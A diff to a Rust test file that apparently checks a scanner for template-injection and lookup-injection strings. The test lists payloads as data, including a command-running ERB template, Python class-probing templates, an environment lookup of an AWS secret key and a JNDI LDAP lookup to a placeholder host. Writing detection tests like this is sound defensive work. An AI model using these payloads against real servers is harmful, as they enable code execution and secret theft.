@@ -16,6 +16,8 @@ fn templates_are_found() {
             "<%= 8*8 %>",
             "{{8*'8'}}",
             "@{8*8}",
+            "@(8+8)",
+            "<%= `id` %>",
             "{{config}}",
             "{{self.__init__}}",
             "{{''.__class__.__mro__}}",
@@ -59,6 +61,7 @@ fn look_ups_are_found_in_every_place() {
             "${env:AWS_SECRET_ACCESS_KEY}",
             "${${sys:os.name}}",
             "$%7Bjndi:ldap://h.example/a}",
+            "${base64:JHtq}",
         ],
     );
 }
